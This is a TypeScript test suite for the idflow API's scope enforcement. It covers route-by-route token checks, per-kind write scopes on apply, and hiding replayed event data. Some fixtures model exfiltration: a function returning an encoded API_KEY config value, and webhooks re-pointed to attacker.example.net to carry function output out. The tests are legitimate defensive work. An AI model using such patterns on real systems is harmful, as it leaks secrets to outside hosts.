/**
 * The scope model, route by route and document by document: every route of /openapi.json
 * answers every kind of token exactly as api/scopes.ts declares (and docs/api.md documents), and
 * an apply needs the write scope of each document's kind, plus the scopes of the effects an
 * automation's steps cause. (No route here reaches Temporal; the end-to-end exfiltration is in
 * test/apply-authorization.test.ts.)
 */
import type { FastifyInstance, InjectOptions } from 'fastify';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { after, before, describe, test } from 'node:test';
import { ROUTE_ACCESS, SCOPES } from '../api/scopes.js';
import { buildApiServer } from '../api/server.js';
import { DevOutbox } from '../dev/outbox.js';
import { devRoutes } from '../dev/routes.js';
import type { IdflowEngine } from '../engine/engine.js';
import type { Scope, Store } from '../store/types.js';
import { startOfflineApi, type OfflineApi } from './helpers/offline-api.js';

let api: OfflineApi;
let app: FastifyInstance;
let store: Store;
let engine: IdflowEngine;
/** A token per single scope, plus admin. */
const tokens = new Map<Scope, string>();

before(async () => {
  api = await startOfflineApi({ env: { IDFLOW_MASTER_KEY: Buffer.alloc(32, 3).toString('base64') }, routes: [devRoutes(new DevOutbox())] });
  ({ app, store, engine } = api);
  for (const scope of SCOPES) tokens.set(scope, await store.tokens.create(`only-${scope}`, [scope]));
});

after(() => api.close());

const bearer = (token: string) => ({ authorization: `Bearer ${token}` });
const token = (scope: Scope) => tokens.get(scope) as string;

/** `METHOD /path/:param` of every operation in /openapi.json. */
async function openApiRoutes(): Promise<string[]> {
  const spec = (await app.inject({ url: '/openapi.json' })).json() as { paths: Record<string, Record<string, unknown>> };
  return Object.entries(spec.paths).flatMap(([path, operations]) =>
    Object.keys(operations)
      .filter((method) => method !== 'head')
      .map((method) => `${method.toUpperCase()} ${path.replace(/\{(\w+)\}/g, ':$1')}`),
  );
}

/** docs/api.md's route table: `| \`METHOD /path\` ... | access | ...`. */
async function documentedAccess(): Promise<Map<string, string>> {
  const docs = await readFile(new URL('../docs/api.md', import.meta.url), 'utf8');
  const rows = [...docs.matchAll(/^\| `((?:GET|POST|PUT|PATCH|DELETE) \/\S*)`[^|]*\| ([^|]+) \|/gm)];
  return new Map(rows.map(([, route, access]) => [route, access.trim()]));
}

function describeAccess(route: string): string {
  const access = ROUTE_ACCESS[route];
  if (typeof access === 'string') return access;
  return 'allOf' in access ? access.allOf.join(' and ') : access.join(' or ');
}

describe('the declared scope of every route', () => {
  test('/openapi.json lists exactly the routes ROUTE_ACCESS declares', async () => {
    assert.deepEqual((await openApiRoutes()).sort(), Object.keys(ROUTE_ACCESS).sort());
  });

  test("docs/api.md's route table documents each route with its declared access", async () => {
    const documented = await documentedAccess();
    assert.deepEqual([...documented.keys()].sort(), Object.keys(ROUTE_ACCESS).sort(), 'one row per route');
    for (const route of Object.keys(ROUTE_ACCESS)) assert.equal(documented.get(route), describeAccess(route), route);
  });

  test("docs/api.md's scope table has a row for every scope", async () => {
    const docs = await readFile(new URL('../docs/api.md', import.meta.url), 'utf8');
    for (const scope of SCOPES) assert.match(docs, new RegExp(`^\\| \`${scope}\` \\|`, 'm'), `a row for ${scope}`);
  });

  test('a route without a declared access stops the server from starting', async () => {
    const unscoped = await buildApiServer({ engine });
    try {
      await assert.rejects(async () => {
        unscoped.get('/v1/undeclared', async () => ({}));
        await unscoped.ready();
      }, /route GET \/v1\/undeclared declares no access: add it to ROUTE_ACCESS/);
    } finally {
      await unscoped.close();
    }
  });

  test('every route answers every token as declared: 401 without a valid one, 403 without the scope', async () => {
    const expired = await store.tokens.create('expired', ['admin'], { expiresAt: new Date(Date.now() - 60_000) });
    const revoked = await store.tokens.create('revoked', ['admin']);
    assert.equal(await store.tokens.revoke('revoked'), true);
    const unauthenticated: [string, Record<string, string>, RegExp][] = [
      ['no token', {}, /missing bearer token/],
      ['a malformed header', { authorization: 'Basic YWRtaW46YWRtaW4=' }, /missing bearer token/],
      ['an unknown token', bearer('idf_not-a-token'), /^invalid token$/],
      ['an expired token', bearer(expired), /token "expired" was expired at /],
      ['a revoked token', bearer(revoked), /token "revoked" was revoked at /],
      ['an unknown console session', { cookie: 'idflow_session=not-a-session' }, /no console session with this cookie/],
    ];
    const routes = await openApiRoutes();
    let checked = 0;
    for (const route of routes) {
      const [method, pattern] = route.split(' ') as [InjectOptions['method'], string];
      // Parameters name nothing that exists and bodies are empty: an allowed request ends in the handler's 400/404, never in a side effect.
      const request = (headers: Record<string, string>, remoteAddress = '127.0.0.1') =>
        app.inject({
          method,
          url: pattern.replace(/:\w+/g, 'nothing-here'),
          headers,
          remoteAddress,
          ...(method === 'GET' || method === 'DELETE' ? {} : { payload: {} }),
        });
      const access = ROUTE_ACCESS[route];
      if (access === 'public') {
        // No credential asked for: a GET answers; a sign-in reads its token from the body (here: none, 400).
        for (const [, headers] of unauthenticated)
          assert.equal((await request(headers)).statusCode, method === 'GET' ? 200 : 400, `${route} is public`);
        continue;
      }
      if (access === 'authenticated') {
        // Any valid credential, whatever its scopes.
        for (const [what, headers, message] of unauthenticated) {
          const response = await request(headers);
          assert.equal(response.statusCode, 401, `${route} with ${what}: ${response.body}`);
          assert.match(response.json().error.message, message);
        }
        for (const scope of SCOPES) {
          const response = await request(bearer(token(scope)));
          assert.ok(![401, 403].includes(response.statusCode), `${route} with ${scope}: ${response.body}`);
          checked++;
        }
        continue;
      }
      if (access === 'session') {
        // A console session's cookie, and nothing else: no bearer token, whatever its scopes.
        for (const headers of [...unauthenticated.map(([, headers]) => headers), ...SCOPES.map((scope) => bearer(token(scope)))]) {
          const response = await request(headers);
          assert.equal(response.statusCode, 401, `${route} without a session: ${response.body}`);
          assert.match(response.json().error.message, /no console session/);
        }
        const signIn = await app.inject({ method: 'POST', url: '/v1/console/sessions', payload: { token: token('metrics:read') } });
        const cookie = (signIn.headers['set-cookie'] as string).split(';')[0];
        const response = await request({ cookie, 'x-csrf-token': signIn.json().csrfToken });
        assert.ok(![401, 403].includes(response.statusCode), `${route} with a session: ${response.body}`);
        continue;
      }
      if (access === 'loopback') {
        // Stand-ins for outside services: no idflow token, whatever the token; a peer off loopback is refused, admin or not.
        const tokensToTry = [...unauthenticated.map(([, headers]) => headers), ...SCOPES.map((scope) => bearer(token(scope)))];
        for (const headers of tokensToTry) {
          assert.ok(![401, 403].includes((await request(headers)).statusCode), `${route} from loopback`);
          assert.equal((await request(headers, '198.51.100.7')).statusCode, 403, `${route} from another host`);
        }
        continue;
      }
      if (access === 'signature') {
        // No idflow token is asked for, whatever is sent: the route checks its own credential — an event source's
        // signature (here: no such source, 404), an approval link or Slack's signature (here: none, 401 saying so).
        for (const headers of [...unauthenticated.map(([, headers]) => headers), ...SCOPES.map((scope) => bearer(token(scope)))]) {
          const response = await request(headers);
          assert.equal(response.statusCode, pattern.startsWith('/v1/sources/') ? 404 : 401, `${route} takes no token`);
          assert.doesNotMatch(response.body, /bearer token|invalid token|lacks the scope/, `${route} asks for no idflow token`);
        }
        continue;
      }
      // SCIM clients read SCIM's error shape (RFC 7644 §3.12) with the same status and message.
      const scim = pattern.startsWith('/scim/v2/');
      const refusal = (response: Awaited<ReturnType<typeof request>>) => {
        const body = response.json();
        return scim
          ? { code: body.status === '401' ? 'UNAUTHORIZED' : 'FORBIDDEN', message: body.detail, schemas: body.schemas }
          : { ...body.error, schemas: undefined };
      };
      const scimSchemas = scim ? ['urn:ietf:params:scim:api:messages:2.0:Error'] : undefined;
      for (const [what, headers, message] of unauthenticated) {
        const response = await request(headers);
        assert.equal(response.statusCode, 401, `${route} with ${what}: ${response.body}`);
        assert.equal(refusal(response).code, 'UNAUTHORIZED');
        assert.deepEqual(refusal(response).schemas, scimSchemas);
        assert.match(refusal(response).message, message);
      }
      if ('allOf' in access) {
        // Every one of the scopes: each alone is refused, naming what is missing; all together (or admin) pass.
        for (const scope of SCOPES) {
          const response = await request(bearer(token(scope)));
          if (scope === 'admin') {
            assert.ok(![401, 403].includes(response.statusCode), `${route} with admin: ${response.body}`);
            continue;
          }
          assert.equal(response.statusCode, 403, `${route} with ${scope} alone is refused: ${response.body}`);
          const missing = access.allOf.filter((needed) => needed !== scope);
          assert.match(refusal(response).message, new RegExp(`lacks the scope ${missing.map((s) => `"${s}"`).join(', ')} \\(`));
          checked++;
        }
        const all = await store.tokens.create(`all-of-${route}`, [...access.allOf]);
        const response = await request(bearer(all));
        assert.ok(![401, 403].includes(response.statusCode), `${route} with ${access.allOf.join(' and ')}: ${response.body}`);
        continue;
      }
      for (const scope of SCOPES) {
        const response = await request(bearer(token(scope)));
        const allowed = scope === 'admin' || access.includes(scope);
        if (allowed)
          assert.ok(
            ![401, 403].includes(response.statusCode),
            `${route} with ${scope} is allowed: ${response.statusCode} ${response.body}`,
          );
        else {
          assert.equal(response.statusCode, 403, `${route} with ${scope} is refused: ${response.body}`);
          assert.deepEqual(refusal(response), {
            code: 'FORBIDDEN',
            message: `token "only-${scope}" lacks the scope ${access.length === 1 ? `"${access[0]}"` : `(any one of) ${access.map((s) => `"${s}"`).join(', ')}`}`,
            schemas: scimSchemas,
          });
        }
        checked++;
      }
    }
    assert.ok(checked >= 40 * SCOPES.length, `${checked} route × scope pairs checked`);
  });
});

const apply = (scopes: Scope[], files: { path: string; content: string }[], dryRun = false) =>
  store.tokens
    .create(`apply-${scopes.join('+')}-${Math.random().toString(36).slice(2)}`, scopes)
    .then((created) => app.inject({ method: 'POST', url: '/v1/apply', headers: bearer(created), payload: { files, dryRun } }));

const webhook = { path: 'defs/hook.yaml', content: 'kind: Webhook\nname: collector\nurl: https://collector.example.com/in\n' };
const functionFiles = (body: string) => [
  { path: 'defs/keyholder.yaml', content: 'kind: Function\nname: keyholder\nfile: keyholder.ts\ntimeout: 2s\n' },
  {
    path: 'defs/keyholder.ts',
    content: `export default async function (_input: unknown, ctx: { getConfig(key: string): string }) {\n  ${body}\n}\n`,
  },
];
const directory = {
  path: 'defs/access.yaml',
  content:
    'kind: Directory\napps:\n  - slug: github\n    entitlements: [{ slug: engineering }]\nusers:\n  - { id: u-mallory, email: mallory@example.com }\ngrants:\n  - { user: u-mallory, entitlement: github:engineering }\n',
};
const automationWith = (name: string, step: string) => ({
  path: `defs/${name}.yaml`,
  content: `kind: Automation\nname: ${name}\ntrigger: { type: user.created }\nsteps:\n${step}`,
});
const grantStep =
  '  - name: grant\n    type: grant_entitlements\n    with: { user: "{{ subject.id }}", entitlements: [github:engineering] }\n';
const callStep = '  - name: call\n    type: call_function\n    with: { function: keyholder }\n';
const runStep = '  - name: chain\n    type: run_automation\n    with: { automation: notify }\n';
const notify = automationWith(
  'notify',
  '  - name: post\n    type: run_webhook\n    with: { webhook: collector, payload: { hello: world } }\n',
);

function assertRefused(response: Awaited<ReturnType<typeof apply>>, ...expected: RegExp[]): void {
  assert.equal(response.statusCode, 403, response.body);
  const { error } = response.json() as { error: { code: string; message: string } };
  assert.equal(error.code, 'FORBIDDEN');
  assert.match(error.message, /nothing was applied/);
  for (const pattern of expected) assert.match(error.message, pattern);
}

describe('apply: each document needs the write scope of its kind', () => {
  test('definitions:write cannot publish function code, even with a webhook beside it, nor in a dry run; nothing is written', async () => {
    const exfiltrate = functionFiles('return { b64: btoa(ctx.getConfig("API_KEY")) };');
    for (const dryRun of [true, false]) {
      assertRefused(
        await apply(['definitions:write'], [webhook, ...exfiltrate], dryRun),
        /defs\/keyholder\.yaml:1: Function\/keyholder needs "functions:write"/,
      );
    }
    assert.equal(await store.definitions.current('Function', 'keyholder'), undefined, 'the function was not written');
    assert.equal(await store.definitions.current('Webhook', 'collector'), undefined, 'nor the webhook applied beside it');
    const published = await apply(['functions:write'], exfiltrate);
    assert.equal(published.statusCode, 200, published.body);
    assert.deepEqual(published.json().applied, [{ kind: 'Function', name: 'keyholder', version: 1, created: true }]);
  });

  test('definitions:write cannot apply a Directory document that grants access; directory:write can', async () => {
    assertRefused(await apply(['definitions:write'], [directory]), /defs\/access\.yaml:1: Directory needs "directory:write"/);
    assert.deepEqual(await store.directory.listGrants({}), [], 'no grant was written');
    assert.equal(await store.directory.getUser('u-mallory'), undefined);
    const applied = await apply(['directory:write'], [directory]);
    assert.equal(applied.statusCode, 200, applied.body);
    assert.equal((await store.directory.listGrants({ userId: 'u-mallory' })).length, 1);
  });

  test('functions:write and directory:write do not reach automations and webhooks', async () => {
    assertRefused(await apply(['functions:write', 'directory:write'], [webhook]), /Webhook\/collector needs "definitions:write"/);
  });

  test('an automation needs the scopes of what its steps cause: directory writes, function calls, other automations', async () => {
    assert.equal((await apply(['definitions:write'], [webhook, notify])).statusCode, 200, 'run_webhook needs nothing more');
    const cases: [string, string, Scope][] = [
      ['grants', grantStep, 'directory:write'],
      ['calls', callStep, 'functions:run'],
      ['chains', runStep, 'runs:write'],
    ];
    for (const [name, step, needed] of cases) {
      const document = automationWith(name, step);
      assertRefused(
        await apply(['definitions:write'], [document], true),
        new RegExp(`defs/${name}\\.yaml:1: Automation/${name} needs "${needed}"`),
      );
      assert.equal(await store.definitions.current('Automation', name), undefined);
      const allowed = await apply(['definitions:write', needed], [document]);
      assert.equal(allowed.statusCode, 200, allowed.body);
    }
    const forEachUser = {
      path: 'defs/sweep.yaml',
      content:
        'kind: Automation\nname: sweep\ntrigger: { type: schedule, every: 1d, forEachUser: "true" }\nsteps:\n  - { name: w, type: wait, with: { duration: 1s } }\n',
    };
    assertRefused(await apply(['definitions:write'], [forEachUser], true), /Automation\/sweep needs "directory:read"/);
  });

  test('re-pointing a webhook that an automation sends function output to needs functions:run', async () => {
    const relay = { path: 'defs/relay-hook.yaml', content: 'kind: Webhook\nname: relay\nurl: https://tickets.example.com/in\n' };
    const relaying = automationWith(
      'relay-output',
      `${callStep}  - name: post\n    type: run_webhook\n    with: { webhook: relay, payload: { out: "{{ ctx.call.output }}" } }\n`,
    );
    assert.equal((await apply(['admin'], [...functionFiles('return { ok: true };'), relay, relaying])).statusCode, 200);
    const repointed = { ...relay, content: relay.content.replace('https://tickets.example.com/in', 'https://attacker.example.net/in') };
    assertRefused(await apply(['definitions:write'], [repointed]), /defs\/relay-hook\.yaml:1: Webhook\/relay needs "functions:run"/);
    assert.equal((await store.definitions.current('Webhook', 'relay'))?.version, 1, 'the webhook still points where it did');
    assert.equal((await apply(['definitions:write', 'functions:run'], [repointed])).statusCode, 200);
  });

  test('so does changing an automation that receives function output through run_automation, or its webhook', async () => {
    const hook = { path: 'defs/child-hook.yaml', content: 'kind: Webhook\nname: child-hook\nurl: https://tickets.example.com/child\n' };
    const child = automationWith(
      'output-child',
      '  - name: post\n    type: run_webhook\n    with: { webhook: child-hook, payload: { out: "{{ ctx.trigger.out }}" } }\n',
    );
    const parent = automationWith(
      'output-parent',
      `${callStep}  - name: chain\n    type: run_automation\n    with: { automation: output-child, context: { out: "{{ ctx.call.output }}" } }\n`,
    );
    assert.equal((await apply(['admin'], [...functionFiles('return { ok: true };'), hook, child, parent])).statusCode, 200);
    const leakyChild = { ...child, content: child.content.replace('child-hook', 'collector') };
    assertRefused(
      await apply(['definitions:write'], [webhook, leakyChild]),
      /defs\/output-child\.yaml:1: Automation\/output-child needs "functions:run"/,
    );
    assertRefused(
      await apply(['definitions:write'], [{ ...hook, content: hook.content.replace('tickets.example.com', 'attacker.example.net') }]),
      /Webhook\/child-hook needs "functions:run"/,
    );
    assert.equal(
      (await apply(['definitions:write'], [webhook])).statusCode,
      200,
      'a webhook no function output reaches needs definitions:write only',
    );
  });

  test('rolling back to, or enabling, an automation that writes the directory needs directory:write too', async () => {
    const name = 'rollback-target';
    const admin = await store.tokens.create('rollback-admin', ['admin']);
    const applyAs = (content: string) =>
      app.inject({ method: 'POST', url: '/v1/apply', headers: bearer(admin), payload: { files: [{ path: 'r.yaml', content }] } });
    assert.equal((await applyAs(automationWith(name, grantStep).content)).statusCode, 200);
    assert.equal(
      (
        await applyAs(
          automationWith(name, '  - { name: w, type: wait, with: { duration: 1s } }\n').content.replace(
            'trigger:',
            'enabled: false\ntrigger:',
          ),
        )
      ).statusCode,
      200,
    );
    const definitionsOnly = bearer(token('definitions:write'));
    const rollback = await app.inject({
      method: 'POST',
      url: `/v1/automations/${name}/rollback`,
      headers: definitionsOnly,
      payload: { version: 1 },
    });
    assert.equal(rollback.statusCode, 403, rollback.body);
    assert.match(
      rollback.json().error.message,
      /rolling back to Automation\/rollback-target@1 needs the scope "directory:write", which token "only-definitions:write" lacks/,
    );
    assert.equal((await store.definitions.head('Automation', name))?.version, 2);
    // Version 2 (a wait) is disabled: enabling it needs definitions:write only; after an admin's rollback to v1, enabling needs directory:write.
    assert.equal((await app.inject({ method: 'POST', url: `/v1/automations/${name}/enable`, headers: definitionsOnly })).statusCode, 200);
    assert.equal(
      (await app.inject({ method: 'POST', url: `/v1/automations/${name}/rollback`, headers: bearer(admin), payload: { version: 1 } }))
        .statusCode,
      200,
    );
    assert.equal(
      (await app.inject({ method: 'POST', url: `/v1/automations/${name}/disable`, headers: definitionsOnly })).statusCode,
      200,
      'disabling stops effects: definitions:write suffices',
    );
    const enable = await app.inject({ method: 'POST', url: `/v1/automations/${name}/enable`, headers: definitionsOnly });
    assert.equal(enable.statusCode, 403, enable.body);
    assert.match(enable.json().error.message, /enabling Automation\/rollback-target@3 needs the scope "directory:write"/);
  });
});

describe('events', () => {
  test('"manual" cannot be sent as an event: manual runs go through the runs route with runs:write', async () => {
    const byHand = automationWith('by-hand', '  - { name: w, type: wait, with: { duration: 1s } }\n');
    assert.equal((await apply(['admin'], [{ ...byHand, content: byHand.content.replace('user.created', 'manual') }])).statusCode, 200);
    assert.equal((await store.definitions.current('Automation', 'by-hand'))?.version, 1, 'trigger: { type: manual } still applies');
    const response = await app.inject({
      method: 'POST',
      url: '/v1/events',
      headers: bearer(token('events:write')),
      payload: { id: 'evt-manual', type: 'manual', data: {} },
    });
    assert.equal(response.statusCode, 400, response.body);
    assert.equal(response.json().error.code, 'VALIDATION');
    assert.match(
      response.json().error.message,
      /body\.type: the event type "manual" cannot be sent: .* POST \/v1\/automations\/:name\/runs .* runs:write/,
    );
    assert.equal(await store.events.get('evt-manual'), undefined, 'nothing was stored');
    assert.equal((await store.runs.list({ automation: 'by-hand' })).length, 0, 'nothing ran');
    await assert.rejects(engine.ingest({ type: 'manual', data: {} }, 'test'), /the event type "manual" cannot be sent/);
  });

  test('a repeated event id shows the first delivery only as far as the token may read it', async () => {
    const first = await app.inject({
      method: 'POST',
      url: '/v1/events',
      headers: bearer(token('admin')),
      payload: { id: 'evt-hris-1', type: 'user.updated', data: { newUser: { id: 'u-1', salary: 123456 } } },
    });
    assert.equal(first.statusCode, 202, first.body);
    const replay = await app.inject({
      method: 'POST',
      url: '/v1/events',
      headers: bearer(token('events:write')),
      payload: { id: 'evt-hris-1', type: 'user.updated', data: {} },
    });
    assert.equal(replay.statusCode, 200, replay.body);
    assert.equal(replay.json().duplicate, true);
    assert.equal(replay.json().event.id, 'evt-hris-1');
    assert.equal(replay.json().event.data, undefined, "the first delivery's data needs events:read");
    assert.ok(!replay.body.includes('123456'));
    const reader = await store.tokens.create('events-writer-reader', ['events:write', 'events:read']);
    assert.equal(
      (
        await app.inject({
          method: 'POST',
          url: '/v1/events',
          headers: bearer(reader),
          payload: { id: 'evt-hris-1', type: 'user.updated', data: {} },
        })
      ).json().event.data.newUser.salary,
      123456,
    );
  });
});
